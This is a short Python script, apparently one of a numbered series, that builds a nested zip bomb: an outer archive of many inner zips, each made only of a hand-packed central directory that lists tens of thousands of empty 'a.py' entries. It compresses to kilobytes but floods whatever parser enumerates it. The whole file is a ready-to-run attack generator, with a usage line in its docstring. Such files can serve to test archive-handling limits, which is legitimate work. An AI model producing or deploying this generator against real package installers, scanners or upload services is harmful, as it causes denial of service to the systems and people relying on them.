"""Writes a zip of so many zips, each of so many entries: python 05b_zip_entries_bomb.py 10 60000 out.zip"""

import struct
import sys
import zipfile

zips, count = int(sys.argv[1]), int(sys.argv[2])
name = b"a.py"
# a zip's directory alone: 60,000 entries of nothing at all, which are packed to some kilobytes
header = (0x02014B50, 20, 20, 0, 0, 0, 33, 0, 0, 0, len(name), 0, 0, 0, 0, 0, 0)
entries = (struct.pack("<IHHHHHHIIIHHHHHII", *header) + name) * count
end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(entries), 0, 0)
with zipfile.ZipFile(sys.argv[3], "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
    for number in range(zips):
        archive.writestr(f"i{number}.zip", entries + end)
